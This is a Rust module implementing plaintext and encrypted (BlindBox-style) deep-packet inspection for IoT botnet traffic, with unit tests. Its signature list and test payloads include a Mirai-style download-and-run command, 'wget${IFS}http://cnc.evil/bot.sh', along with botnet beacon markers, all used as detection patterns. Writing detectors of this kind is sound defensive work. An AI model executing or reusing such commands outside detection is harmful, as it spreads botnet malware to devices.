//! Encrypted deep-packet inspection (§IV-B2): keyword rules from IoT
//! malware signatures are matched against traffic "similar to BlindBox",
//! preserving end-to-end encryption. The middlebox receives only
//! PRF-encrypted tokens; a plaintext DPI engine is included as the
//! baseline (and as the model of the certificate-injection middlebox the
//! paper rejects).
//!
//! # Fast path
//!
//! Both engines originally scanned the payload once per rule —
//! O(rules × payload) — which collapses at realistic signature-set sizes
//! (hundreds of C&C keywords). The hot paths are now single-pass:
//!
//! * [`PlaintextDpi`] compiles its keywords into an Aho–Corasick
//!   automaton ([`xlf_analytics::AcAutomaton`]) once at construction and
//!   walks each payload exactly once, O(payload + matches).
//! * [`EncryptedDpi`] matches against a [`DpiSession`], which indexes
//!   the session's rule tokens in a [`TokenIndex`] keyed by each rule's
//!   first window token, and walks the traffic token stream once,
//!   O(traffic tokens + candidate checks).
//!
//! The naive per-rule scans are kept as reference methods,
//! [`PlaintextDpi::inspect_naive`] and [`EncryptedDpi::match_stream_naive`],
//! for A/B measurement; the bench harness and property tests assert the
//! engines agree exactly.

use crate::bus::EvidenceBus;
use crate::evidence::{Evidence, EvidenceKind, Layer};
use std::sync::Arc;
use xlf_analytics::AcAutomaton;
use xlf_lwcrypto::searchable::{match_rule, Token, TokenIndex, Tokenizer};
use xlf_simnet::SimTime;

/// One detection rule (keyword + name), following the signature-generation
/// shape of Alhanahnah et al. ("one or more keywords to be matched in the
/// traffic").
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    /// Rule identifier.
    pub name: String,
    /// Keyword bytes to match.
    pub keyword: Vec<u8>,
}

/// A rule match. The rule name is a shared interned string so reporting a
/// match never copies the name bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DpiMatch {
    /// The matching rule's name.
    pub rule: Arc<str>,
    /// Token/byte offset of the first match.
    pub offset: usize,
}

/// Inspection counters for a DPI engine.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct DpiStats {
    /// Token streams inspected.
    pub streams_inspected: u64,
    /// Streams with at least one rule match.
    pub matches: u64,
}

fn intern_names(rules: &[Rule]) -> Vec<Arc<str>> {
    rules.iter().map(|r| Arc::from(r.name.as_str())).collect()
}

fn matches_from_firsts(names: &[Arc<str>], firsts: &[Option<usize>]) -> Vec<DpiMatch> {
    firsts
        .iter()
        .enumerate()
        .filter_map(|(id, first)| {
            first.map(|offset| DpiMatch {
                rule: names[id].clone(),
                offset,
            })
        })
        .collect()
}

/// Plaintext DPI baseline: byte-level keyword matching via a single-pass
/// Aho–Corasick automaton compiled once from the rule set.
#[derive(Debug)]
pub struct PlaintextDpi {
    rules: Vec<Rule>,
    names: Vec<Arc<str>>,
    automaton: AcAutomaton,
}

impl Default for PlaintextDpi {
    fn default() -> Self {
        PlaintextDpi::new(Vec::new())
    }
}

impl PlaintextDpi {
    /// Creates an engine with the given rules, compiling the automaton.
    pub fn new(rules: Vec<Rule>) -> Self {
        let names = intern_names(&rules);
        let automaton = AcAutomaton::build(rules.iter().map(|r| r.keyword.as_slice()));
        PlaintextDpi {
            rules,
            names,
            automaton,
        }
    }

    /// The compiled rule set.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Scans a plaintext payload in one automaton pass.
    pub fn inspect(&self, payload: &[u8]) -> Vec<DpiMatch> {
        matches_from_firsts(&self.names, &self.automaton.find_first_per_pattern(payload))
    }

    /// Scans a batch of payloads, reusing the per-pattern scratch buffer
    /// across payloads.
    pub fn inspect_batch(&self, payloads: &[&[u8]]) -> Vec<Vec<DpiMatch>> {
        let mut scratch = Vec::new();
        payloads
            .iter()
            .map(|payload| {
                self.automaton
                    .find_first_per_pattern_into(payload, &mut scratch);
                matches_from_firsts(&self.names, &scratch)
            })
            .collect()
    }

    /// The original per-rule window scan, O(rules × payload). Kept for
    /// A/B benchmarking and as the equivalence oracle in property tests.
    pub fn inspect_naive(&self, payload: &[u8]) -> Vec<DpiMatch> {
        let mut out = Vec::new();
        for (id, rule) in self.rules.iter().enumerate() {
            if rule.keyword.is_empty() {
                continue;
            }
            if let Some(offset) = payload
                .windows(rule.keyword.len())
                .position(|w| w == rule.keyword)
            {
                out.push(DpiMatch {
                    rule: self.names[id].clone(),
                    offset,
                });
            }
        }
        out
    }
}

/// A rule set bound to one session: the session's tokenizer and the
/// rule keywords compiled under it — by the rule authority, who holds
/// the session secret via the separate XLF Core ↔ service channel the
/// paper describes — indexed for single-pass matching. Binding costs a
/// KDF plus a PRF per keyword window and the result is read-only, so
/// every middlebox inspecting the session shares one
/// ([`EncryptedDpi::new`] takes it behind an `Arc`).
#[derive(Debug)]
pub struct DpiSession {
    tokenizer: Tokenizer,
    names: Vec<Arc<str>>,
    /// Compiled rule token sequences (rule order).
    compiled: Vec<Vec<Token>>,
    /// Single-pass index over `compiled`.
    index: TokenIndex,
}

impl DpiSession {
    /// Compiles `rules` under `tokenizer`.
    pub fn bind(rules: &[Rule], tokenizer: Tokenizer) -> Self {
        let compiled: Vec<Vec<Token>> = rules
            .iter()
            .map(|r| tokenizer.rule_tokens(&r.keyword))
            .collect();
        DpiSession {
            index: TokenIndex::build(compiled.clone()),
            names: intern_names(rules),
            compiled,
            tokenizer,
        }
    }

    /// The session's tokenizer: what the endpoint tokenizes its traffic
    /// with.
    pub fn tokenizer(&self) -> &Tokenizer {
        &self.tokenizer
    }
}

/// The encrypted middlebox: matches a session's rule *tokens* against
/// traffic token streams. It never sees plaintext.
pub struct EncryptedDpi {
    session: Arc<DpiSession>,
    bus: Option<EvidenceBus>,
    /// Inspection counters.
    pub stats: DpiStats,
}

impl std::fmt::Debug for EncryptedDpi {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EncryptedDpi")
            .field("rules", &self.session.names.len())
            .field("stats", &self.stats)
            .finish_non_exhaustive()
    }
}

impl EncryptedDpi {
    /// Creates a middlebox inspecting `session`.
    pub fn new(session: Arc<DpiSession>) -> Self {
        EncryptedDpi {
            session,
            bus: None,
            stats: DpiStats::default(),
        }
    }

    /// Attaches the evidence bus.
    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
        self.bus = Some(bus);
        self
    }

    /// The session this middlebox inspects.
    pub fn session(&self) -> &Arc<DpiSession> {
        &self.session
    }

    fn match_into(&self, tokens: &[Token], scratch: &mut Vec<Option<usize>>) -> Vec<DpiMatch> {
        self.session.index.find_first_per_rule_into(tokens, scratch);
        matches_from_firsts(&self.session.names, scratch)
    }

    /// Pure matching over one traffic token stream: no counters, no
    /// evidence. Safe to call from multiple threads (`&self`), which is
    /// what the sharded batch path does.
    pub fn match_stream(&self, tokens: &[Token]) -> Vec<DpiMatch> {
        let mut scratch = Vec::new();
        self.match_into(tokens, &mut scratch)
    }

    /// The per-rule token scan the index replaced, O(rules × tokens).
    /// Kept for A/B benchmarking and as the equivalence oracle in tests.
    pub fn match_stream_naive(&self, tokens: &[Token]) -> Vec<DpiMatch> {
        let firsts: Vec<Option<usize>> = self
            .session
            .compiled
            .iter()
            .map(|rule| match_rule(tokens, rule).first().copied())
            .collect();
        matches_from_firsts(&self.session.names, &firsts)
    }

    fn record(&mut self, device: &str, matches: &[DpiMatch], now: SimTime) {
        self.stats.streams_inspected += 1;
        if matches.is_empty() {
            return;
        }
        self.stats.matches += 1;
        if let Some(bus) = &self.bus {
            for m in matches {
                bus.report(Evidence::new(
                    now,
                    Layer::Network,
                    device,
                    EvidenceKind::DpiMatch,
                    0.9,
                    &format!("rule {} matched at token {}", m.rule, m.offset),
                ));
            }
        }
    }

    /// Inspects a traffic token stream (produced by the sending endpoint);
    /// reports matches as evidence attributed to `device`.
    ///
    /// `firsts` is the caller's per-rule match buffer, borrowed like the
    /// token stream: one buffer serves every middlebox its owner scans
    /// through, so a stream with no match allocates nothing.
    pub fn inspect(
        &mut self,
        device: &str,
        tokens: &[Token],
        firsts: &mut Vec<Option<usize>>,
        now: SimTime,
    ) -> Vec<DpiMatch> {
        let out = self.match_into(tokens, firsts);
        self.record(device, &out, now);
        out
    }

    /// Inspects a batch of token streams from one device. Counters and
    /// evidence behave exactly as if [`EncryptedDpi::inspect`] were called
    /// per stream.
    pub fn inspect_batch(
        &mut self,
        device: &str,
        streams: &[Vec<Token>],
        now: SimTime,
    ) -> Vec<Vec<DpiMatch>> {
        let mut firsts = Vec::new();
        streams
            .iter()
            .map(|tokens| self.inspect(device, tokens, &mut firsts, now))
            .collect()
    }
}

/// Matches a batch of token streams across `shards` worker threads
/// (crossbeam scoped threads over contiguous chunks). Pure matching —
/// counters and evidence stay with the caller, so the engine is shared
/// immutably across shards. Results keep the input order.
pub fn match_batch_sharded(
    dpi: &EncryptedDpi,
    streams: &[Vec<Token>],
    shards: usize,
) -> Vec<Vec<DpiMatch>> {
    let shards = shards.max(1).min(streams.len().max(1));
    if shards <= 1 {
        let mut scratch = Vec::new();
        return streams
            .iter()
            .map(|tokens| dpi.match_into(tokens, &mut scratch))
            .collect();
    }
    let chunk = streams.len().div_ceil(shards);
    crossbeam::thread::scope(|s| {
        let handles: Vec<_> = streams
            .chunks(chunk)
            .map(|chunk| {
                s.spawn(move || {
                    let mut scratch = Vec::new();
                    chunk
                        .iter()
                        .map(|tokens| dpi.match_into(tokens, &mut scratch))
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().expect("shard panicked"))
            .collect()
    })
    .expect("shard scope panicked")
}

/// Builds the default rule set from the botnet C&C signatures.
pub fn default_rules() -> Vec<Rule> {
    xlf_attacks_signatures()
        .iter()
        .enumerate()
        .map(|(i, sig)| Rule {
            name: format!("cnc-{i}"),
            keyword: sig.to_vec(),
        })
        .collect()
}

/// The signature byte strings (kept locally so `xlf-core` does not depend
/// on the attacks crate; the bench harness asserts the two lists agree).
pub fn xlf_attacks_signatures() -> Vec<&'static [u8]> {
    vec![
        b"wget${IFS}http://cnc.evil/bot.sh",
        b"/bin/busybox MIRAI",
        b"POST /cdn-cgi/ HTTP",
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::EvidenceStore;

    fn rules() -> Vec<Rule> {
        default_rules()
    }

    /// A middlebox over the default rules bound to `endpoint`'s session.
    fn middlebox(endpoint: &Tokenizer) -> EncryptedDpi {
        EncryptedDpi::new(Arc::new(DpiSession::bind(&rules(), endpoint.clone())))
    }

    #[test]
    fn plaintext_dpi_finds_keywords() {
        let dpi = PlaintextDpi::new(rules());
        let hits = dpi.inspect(b"GET /x; wget${IFS}http://cnc.evil/bot.sh; exit");
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].rule.as_ref(), "cnc-0");
        assert_eq!(hits[0].offset, 8);
        assert!(dpi.inspect(b"GET /weather HTTP/1.1").is_empty());
    }

    #[test]
    fn plaintext_automaton_agrees_with_naive() {
        let mut rule_set = rules();
        rule_set.push(Rule {
            name: "empty".into(),
            keyword: Vec::new(),
        });
        rule_set.push(Rule {
            name: "overlap".into(),
            keyword: b"busybox".to_vec(),
        });
        let dpi = PlaintextDpi::new(rule_set);
        for payload in [
            &b"GET /x; wget${IFS}http://cnc.evil/bot.sh; exit"[..],
            b"/bin/busybox MIRAI and POST /cdn-cgi/ HTTP both",
            b"clean",
            b"",
        ] {
            assert_eq!(
                dpi.inspect(payload),
                dpi.inspect_naive(payload),
                "divergence on {payload:?}"
            );
        }
    }

    #[test]
    fn plaintext_batch_matches_per_payload_inspection() {
        let dpi = PlaintextDpi::new(rules());
        let payloads: Vec<&[u8]> = vec![
            b"benign",
            b"/bin/busybox MIRAI go",
            b"POST /cdn-cgi/ HTTP beacon",
        ];
        let batched = dpi.inspect_batch(&payloads);
        for (payload, batch) in payloads.iter().zip(&batched) {
            assert_eq!(&dpi.inspect(payload), batch);
        }
    }

    #[test]
    fn encrypted_dpi_matches_without_plaintext() {
        // The endpoint tokenizes its (encrypted) payload; the rule
        // authority compiles rules under the same session tokenizer.
        let endpoint = Tokenizer::new(b"session secret").unwrap();
        let mut middlebox = middlebox(&endpoint);
        let dirty = endpoint.tokenize(b"sh -c 'wget${IFS}http://cnc.evil/bot.sh' &");
        let clean = endpoint.tokenize(b"POST /telemetry?t=72.3 HTTP/1.1");

        let mut firsts = Vec::new();
        let hits = middlebox.inspect("cam", &dirty, &mut firsts, SimTime::ZERO);
        assert_eq!(hits.len(), 1);
        assert!(middlebox
            .inspect("cam", &clean, &mut firsts, SimTime::ZERO)
            .is_empty());
        assert_eq!(
            middlebox.stats,
            DpiStats {
                streams_inspected: 2,
                matches: 1
            }
        );
    }

    #[test]
    fn encrypted_and_plaintext_agree_on_detection() {
        let payloads: Vec<&[u8]> = vec![
            b"benign telemetry payload with nothing in it",
            b"attack: /bin/busybox MIRAI scanner start",
            b"another clean one",
            b"hidden POST /cdn-cgi/ HTTP beacon",
        ];
        let plain = PlaintextDpi::new(rules());
        let endpoint = Tokenizer::new(b"s").unwrap();
        let mut enc = middlebox(&endpoint);
        let mut firsts = Vec::new();
        for payload in payloads {
            let p_hit = !plain.inspect(payload).is_empty();
            let e_hit = !enc
                .inspect("d", &endpoint.tokenize(payload), &mut firsts, SimTime::ZERO)
                .is_empty();
            assert_eq!(p_hit, e_hit, "divergence on {payload:?}");
        }
    }

    #[test]
    fn indexed_and_naive_encrypted_engines_agree() {
        let endpoint = Tokenizer::new(b"s").unwrap();
        let dpi = middlebox(&endpoint);
        for payload in [
            &b"wget${IFS}http://cnc.evil/bot.sh"[..],
            b"prefix /bin/busybox MIRAI suffix",
            b"clean stream",
            b"hi",
        ] {
            let tokens = endpoint.tokenize(payload);
            assert_eq!(
                dpi.match_stream(&tokens),
                dpi.match_stream_naive(&tokens),
                "divergence on {payload:?}"
            );
        }
    }

    #[test]
    fn batch_inspection_matches_per_stream_inspection() {
        let payloads: Vec<&[u8]> = vec![
            b"benign telemetry",
            b"attack: /bin/busybox MIRAI scanner start",
            b"POST /cdn-cgi/ HTTP beacon",
            b"also clean",
        ];
        let endpoint = Tokenizer::new(b"s").unwrap();
        let streams: Vec<Vec<Token>> = payloads.iter().map(|p| endpoint.tokenize(p)).collect();

        let mut single = middlebox(&endpoint);
        let mut firsts = Vec::new();
        let expected: Vec<Vec<DpiMatch>> = streams
            .iter()
            .map(|t| single.inspect("d", t, &mut firsts, SimTime::ZERO))
            .collect();

        let mut batched = middlebox(&endpoint);
        assert_eq!(
            batched.inspect_batch("d", &streams, SimTime::ZERO),
            expected
        );
        assert_eq!(batched.stats, single.stats);

        // Sharded matching (pure) returns the same matches in order.
        assert_eq!(match_batch_sharded(&batched, &streams, 3), expected);
        assert_eq!(match_batch_sharded(&batched, &streams, 16), expected);
    }

    #[test]
    fn wrong_session_tokens_never_match() {
        let mut middlebox = middlebox(&Tokenizer::new(b"session A").unwrap());
        let other_endpoint = Tokenizer::new(b"session B").unwrap();
        let tokens = other_endpoint.tokenize(b"wget${IFS}http://cnc.evil/bot.sh");
        assert!(middlebox
            .inspect("cam", &tokens, &mut Vec::new(), SimTime::ZERO)
            .is_empty());
    }

    #[test]
    fn matches_emit_evidence() {
        let (bus, drain) = EvidenceBus::new();
        let endpoint = Tokenizer::new(b"s").unwrap();
        let mut middlebox = middlebox(&endpoint).with_bus(bus);
        middlebox.inspect(
            "cam",
            &endpoint.tokenize(b"/bin/busybox MIRAI"),
            &mut Vec::new(),
            SimTime::ZERO,
        );
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        assert_eq!(store.all()[0].kind, EvidenceKind::DpiMatch);
        assert_eq!(store.all()[0].device, "cam");
    }
}
